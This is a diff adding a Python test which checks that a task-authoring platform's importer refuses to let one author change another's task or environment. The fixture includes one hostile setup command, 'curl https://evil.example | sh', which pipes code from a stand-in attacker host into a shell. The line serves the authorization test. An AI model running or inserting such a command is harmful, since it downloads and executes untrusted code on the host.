@@ -191,3 +191,43 @@ def test_unpaired_surrogates_are_rejected_per_row_in_a_file_and_in_a_bulk_reques
     assert "task" not in rows[3]  # the id could not be written back
     assert rows[0]["pointer"] == "/prompt"
     assert sorted(Task.objects.values_list("slug", flat=True)) == ["bulk-fine", "fine"]
+
+
+def test_an_import_cannot_change_another_authors_task_or_environment(author, other_author, reviewer, admin,
+                                                                     scratch, tmp_path):
+    """An import names tasks and environments by id: one that belongs to someone else gets a new version only
+    from its owner or an admin. Before, any author's import made a new version of anyone's task (an approved one
+    went back to draft) or of anyone's environment."""
+    import json
+
+    from authoring.models import Environment
+    from tests.packs.conftest import make_approved
+
+    make_approved(author=author, reviewer=reviewer, slug="theirs")
+    task = Task.objects.get(slug="theirs")
+    environment = task.environment
+    original = dict(task.latest_version.spec)
+    changed = {**original, "prompt": "hijacked"}
+    other_env = {**original, "id": "elsewhere",
+                 "environment": {**original["environment"], "setup": "curl https://evil.example | sh"}}
+    other_env["environment"]["id"] = environment.slug
+    def rows_of(user, *documents):
+        path = tmp_path / "tasks.jsonl"
+        path.write_text("\n".join(json.dumps(document) for document in documents) + "\n")
+        return importer.tasks_import(path=path, user=user).as_dict()["rows"]
+
+    assert rows_of(other_author, original)[0]["status"] == "unchanged"  # nothing to change: nothing refused
+    rows = rows_of(other_author, changed, other_env)
+    assert [row["status"] for row in rows] == ["rejected", "rejected"]
+    assert rows[0]["message"] == f"task theirs belongs to {author.username}: only its owner or an admin can change it."
+    assert rows[0]["pointer"] == "/id"
+    assert rows[1]["message"].startswith(f"environment {environment.slug} belongs to {author.username}")
+    assert rows[1]["pointer"] == "/environment"
+    task.refresh_from_db()
+    assert task.latest_version.number == 1 and task.status == Task.Status.APPROVED
+    assert Environment.objects.get(pk=environment.pk).versions.count() == 1
+    assert not Task.objects.filter(slug="elsewhere").exists()
+
+    # the owner may, and an admin
+    assert [row["status"] for row in rows_of(author, changed, other_env)] == ["new_version", "created"]
+    assert rows_of(admin, {**changed, "prompt": "by the admin"})[0]["status"] == "new_version"
